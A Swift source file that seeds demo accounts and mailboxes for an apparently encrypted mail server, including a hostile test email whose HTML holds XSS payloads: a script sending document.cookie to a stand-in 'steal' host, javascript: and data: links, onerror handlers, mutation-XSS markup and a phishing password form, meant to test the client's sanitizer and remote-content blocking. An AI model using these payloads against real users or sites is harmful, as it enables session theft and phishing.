import Foundation
import MailboxCrypto
import RampartAPI
import RampartCore
import SRP

/// The credentials of a demo account and the sign-up its stand-in client makes: the server
/// creates the demo accounts the way a device signs up (MailboxCrypto's `SignupPayload`, then the sign-up
/// function of `POST /v1/signup/accounts`), so it keeps no password of them either. The
/// passwords live only here, because they are documented for `rampart demo` and the tests.
///
/// Trust-model row **mailbox password (critical)**: consumed by the stand-in client, not stored.
public struct DemoAccount: Sendable {
    public var username: String
    public var displayName: String
    public var address: String
    public var loginPassword: String
    public var mailboxPassword: String
    public init(username: String, displayName: String, address: String, loginPassword: String, mailboxPassword: String) {
        self.username = username; self.displayName = displayName; self.address = address
        self.loginPassword = loginPassword; self.mailboxPassword = mailboxPassword
    }

    /// The sign-up request a device makes for this account (two-password mode: the key is locked
    /// with bcrypt of the mailbox password), for `group` (the server's verified modulus).
    public func signupRequest(group: SRPGroup, invitation: String? = nil) throws -> SignupRequest {
        let login = SecretBytes(copying: Array(loginPassword.utf8)), mailbox = SecretBytes(copying: Array(mailboxPassword.utf8))
        defer { login.wipe(); mailbox.wipe() }
        return try SignupPayload.make(username: username, displayName: displayName, address: address, loginPassword: login,
                                      keyPassword: mailbox, group: group, invitation: invitation)
    }
}

/// The demo accounts created at first start, with fixed, documented passwords (the backend
/// listens on loopback only; these accounts exist to be logged into by `rampart demo`).
///
/// Trust-model row **inbox (incoming mail), low trust**: the `demo` mailbox is the hostile and
/// tracking mail the client must render safely (see `DemoSeed`).
public enum DemoAccounts {
    /// `demo`: the seeded mailbox (ordinary mail, a tracking newsletter, embedded images,
    /// attachments, hostile HTML, several labels).
    public static let demo = DemoAccount(username: "demo", displayName: "Dana Demo", address: "demo@rampart.test",
                                        loginPassword: "demo-login-password", mailboxPassword: "demo-mailbox-password")
    /// `alice`: a second account, for several accounts at once and for sending between users.
    public static let alice = DemoAccount(username: "alice", displayName: "Alice Example", address: "alice@rampart.test",
                                         loginPassword: "alice-login-password", mailboxPassword: "alice-mailbox-password")
    public static let all = [demo, alice]
    /// `demo (login "…", mailbox "…"), alice (login "…", mailbox "…")`, as `rampart server start` prints it.
    public static var summary: String {
        all.map { "\($0.username) (login \"\($0.loginPassword)\", mailbox \"\($0.mailboxPassword)\")" }.joined(separator: ", ")
    }
}

/// Fills a new backend with the demo mailboxes.
///
/// Trust-model row **inbox (incoming mail), low trust**: the demo inbox carries what a hostile
/// or tracking sender would send — scripts, event handlers, `javascript:` links, a phishing form,
/// mutation-XSS markup, tracking pixels of well-known open-tracking hosts, remote images, CSS and
/// fonts — so that the client's sanitizer, CSP and remote-content blocking are exercised on
/// every demo run.
enum DemoSeed {
    /// Subjects of the seeded demo messages, for tests and the demo command.
    static let newsletterSubject = "This week at Northwind: 5 deals you'll love"
    static let hostileSubject = "Action required: verify your account"

    static func seed(accounts: Accounts, mailbox: Mailbox, now: Date, group: SRPGroup) throws {
        // The demo accounts' stand-in client signs up like a device; the server's sign-up function
        // checks and stores the request (open policy: the operator made these accounts).
        let policy = SignupPolicy(open: true, domain: SignupPolicy.defaultDomain)
        let demoID = try accounts.signUp(try DemoAccounts.demo.signupRequest(group: group), group: group, policy: policy).userId
        let aliceID = try accounts.signUp(try DemoAccounts.alice.signupRequest(group: group), group: group, policy: policy).userId
        let work = try mailbox.createLabel(userID: demoID, name: "Work")
        let newsletters = try mailbox.createLabel(userID: demoID, name: "Newsletters")
        let travel = try mailbox.createLabel(userID: demoID, name: "Travel")
        let receipts = try mailbox.createLabel(userID: demoID, name: "Receipts")
        let me = Correspondent(name: DemoAccounts.demo.displayName, address: DemoAccounts.demo.address)
        let alice = Correspondent(name: DemoAccounts.alice.displayName, address: DemoAccounts.alice.address)
        func at(_ hoursAgo: Double) -> Date { now.addingTimeInterval(-hoursAgo * 3600) }

        // Ordinary mail.
        try mailbox.deliver(IncomingMessage(content: MessageContent(
            subject: "Lunch on Thursday?", sender: alice, to: [me],
            html: """
            <p>Hi Dana,</p>
            <p>Are you free for lunch on Thursday? The new place on <b>Harbour Street</b> opens at noon.</p>
            <p>Alice</p>
            """), time: at(2)), to: demoID, labels: [SystemLabel.inbox])

        try mailbox.deliver(IncomingMessage(content: MessageContent(
            subject: "Quarterly planning notes", sender: Correspondent(name: "Bob Builder", address: "bob@builders.example"), to: [me],
            html: """
            <div style="font-family: sans-serif"><h2>Planning notes</h2>
            <ul><li>Ship the migration in week 3</li><li>Review the budget with finance</li></ul>
            <p>The minutes and the report are attached.</p></div>
            """),
            attachments: [
                .init(name: "minutes.txt", mimeType: "text/plain", data: Data(minutes.utf8)),
                .init(name: "report.pdf", mimeType: "application/pdf", data: Data(reportPDF.utf8)),
            ], time: at(5)), to: demoID, labels: [SystemLabel.inbox, work])

        // A newsletter with tracking pixels, tracked links, remote images, CSS and fonts.
        try mailbox.deliver(IncomingMessage(content: MessageContent(
            subject: newsletterSubject, sender: Correspondent(name: "Northwind Deals", address: "news@northwind.example"), to: [me],
            html: newsletterHTML), time: at(9)), to: demoID, labels: [SystemLabel.inbox, newsletters])

        // Embedded images (multipart/related): referenced as cid: from the body.
        try mailbox.deliver(IncomingMessage(content: MessageContent(
            subject: "Photos from the trip", sender: alice, to: [me],
            html: """
            <p>Here are the two pictures I promised:</p>
            <p><img src="cid:harbour@rampart.test" alt="Harbour" width="64" height="64">
               <img src="cid:logo@rampart.test" alt="Logo" width="32" height="32"></p>
            <p>And the one from the web: <img src="https://images.northwind.example/trip/summit.jpg" alt="Summit"></p>
            """),
            attachments: [
                .init(name: "harbour.png", mimeType: "image/png", data: Data(base64Encoded: redPixelPNG)!, contentID: "harbour@rampart.test"),
                .init(name: "logo.png", mimeType: "image/png", data: Data(base64Encoded: bluePixelPNG)!, contentID: "logo@rampart.test"),
            ], time: at(20)), to: demoID, labels: [SystemLabel.inbox, travel])

        // Hostile HTML.
        try mailbox.deliver(IncomingMessage(content: MessageContent(
            subject: hostileSubject, sender: Correspondent(name: "Account Security", address: "security@rampart-support.example"),
            to: [me], html: hostileHTML), time: at(30)), to: demoID, labels: [SystemLabel.inbox])

        // A receipt (read, archived) and a sent message.
        try mailbox.deliver(IncomingMessage(content: MessageContent(
            subject: "Your receipt #4411", sender: Correspondent(name: "Rail Tickets", address: "noreply@rail.example"), to: [me],
            html: "<p>Thank you for travelling with us.</p><table><tr><td>Ticket</td><td>€ 42.00</td></tr></table>"),
            attachments: [.init(name: "receipt-4411.txt", mimeType: "text/plain", data: Data("Receipt 4411\nTicket: 42.00 EUR\n".utf8))],
            time: at(50)), to: demoID, labels: [SystemLabel.archive, receipts, travel], unread: false)
        try mailbox.deliver(IncomingMessage(content: MessageContent(
            subject: "Re: Lunch on Thursday?", sender: me, to: [alice], html: "<p>Thursday works, see you at noon!</p>"),
            time: at(1)), to: demoID, labels: [SystemLabel.sent], unread: false)

        // Alice's mailbox.
        try mailbox.deliver(IncomingMessage(content: MessageContent(
            subject: "Welcome to Rampart, Alice", sender: Correspondent(name: "Rampart", address: "welcome@rampart.test"), to: [alice],
            html: "<p>Your mailbox is end-to-end encrypted: this server stores only sealed copies.</p>"),
            time: at(48)), to: aliceID, labels: [SystemLabel.inbox])
        try mailbox.deliver(IncomingMessage(content: MessageContent(
            subject: "Re: Lunch on Thursday?", sender: me, to: [alice], html: "<p>Thursday works, see you at noon!</p>"),
            time: at(1)), to: aliceID, labels: [SystemLabel.inbox])
    }

    static let newsletterHTML = """
    <html><head>
    <style>
      @import url("https://fonts.googleapis.com/css2?family=Lobster");
      @font-face { font-family: "Deal"; src: url("https://cdn.northwind.example/fonts/deal.woff2"); }
      .hero { background-image: url("https://cdn.northwind.example/img/hero-bg.jpg"); padding: 24px; }
    </style>
    </head><body>
    <div class="hero"><h1 style="font-family: Deal, Lobster, serif">5 deals you'll love</h1></div>
    <p><img src="https://images.northwind.example/deals/lamp.jpg" alt="Desk lamp" width="200"></p>
    <p><a href="https://northwind.example/deals?utm_source=newsletter&amp;utm_medium=email&amp;utm_campaign=week47">See every deal</a></p>
    <table background="https://cdn.northwind.example/img/table-bg.png"><tr><td>Lamp — 19.99</td></tr></table>
    <p style="background: url(https://cdn.northwind.example/img/stripe.png)">Free delivery this week.</p>
    <img src="https://northwind.us5.list-manage.com/track/open.php?u=4f1b2c&amp;id=9a8b7c&amp;e=d3m0" width="1" height="1" alt="">
    <img src="https://u12345.ct.sendgrid.net/wf/open?upn=aBcDeF123" width="1" height="1" alt="">
    <img src="https://www.google-analytics.com/collect?v=1&amp;tid=UA-1234567-1&amp;cid=555&amp;t=event&amp;ec=email&amp;ea=open" width="1" height="1">
    <img src="https://track.hubspot.com/__ptq.gif?k=1&amp;e=open" width="1" height="1">
    <img src="https://www.facebook.com/tr?id=123456789&amp;ev=PageView" width="1" height="1" style="display:none">
    <p style="font-size: 11px">You receive this because you subscribed. <a href="https://northwind.example/unsubscribe?u=d3m0">Unsubscribe</a></p>
    </body></html>
    """

    static let hostileHTML = """
    <html><head>
    <meta http-equiv="refresh" content="0; url=https://rampart-support.example/login">
    <base href="https://rampart-support.example/">
    <script>fetch('https://rampart-support.example/steal?c=' + document.cookie)</script>
    <style>body { background: url("javascript:alert('css')"); } .x { width: expression(alert('ie')); }</style>
    </head><body onload="alert('onload')">
    <p>Dear customer, your account will be <b>suspended</b> unless you verify it today.</p>
    <p><a href="javascript:alert('link')">Verify my account</a> ·
       <a href="jAvAsCrIpT&colon;alert('entity')">Verify (mirror)</a> ·
       <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+">Verify (offline)</a></p>
    <img src="x" onerror="alert('onerror')">
    <form action="https://rampart-support.example/phish" method="post">
      <label>Password <input type="password" name="password"></label>
      <button type="submit" formaction="javascript:alert('formaction')">Log in</button>
    </form>
    <iframe src="https://rampart-support.example/frame" width="1" height="1"></iframe>
    <object data="https://rampart-support.example/x.swf"></object>
    <embed src="https://rampart-support.example/x.swf">
    <svg><style><img src=x onerror="alert('svg-style')"></style></svg>
    <math><mtext><table><mglyph><style><img src=x onerror="alert('mglyph')"></style></mglyph></table></mtext></math>
    <noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>
    <svg><a xlink:href="javascript:alert('svg-link')"><text x="10" y="20">Click</text></a></svg>
    <div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; background: white">Fake overlay</div>
    <img src="https://rampart-support.example/pixel.gif?u=demo" width="1" height="1">
    </body></html>
    """

    static let minutes = """
    Planning meeting — minutes
    1. Migration: week 3.
    2. Budget review with finance on Monday.
    3. Next meeting in two weeks.

    """

    /// A small, well-formed one-page PDF ("Quarterly report").
    static let reportPDF: String = {
        let objects = [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 144] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            "<< /Length 46 >>\nstream\nBT /F1 18 Tf 24 72 Td (Quarterly report) Tj ET\nendstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
        var text = "%PDF-1.4\n"
        var offsets: [Int] = []
        for (index, object) in objects.enumerated() {
            offsets.append(text.utf8.count)
            text += "\(index + 1) 0 obj\n\(object)\nendobj\n"
        }
        let xref = text.utf8.count
        text += "xref\n0 \(objects.count + 1)\n0000000000 65535 f \n"
        for offset in offsets { text += String(format: "%010d 00000 n \n", offset) }
        text += "trailer\n<< /Size \(objects.count + 1) /Root 1 0 R >>\nstartxref\n\(xref)\n%%EOF\n"
        return text
    }()

    /// 1×1 PNG images (red and blue).
    static let redPixelPNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
    static let bluePixelPNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPj/HwADBwIAMCbHYQAAAABJRU5ErkJggg=="
}
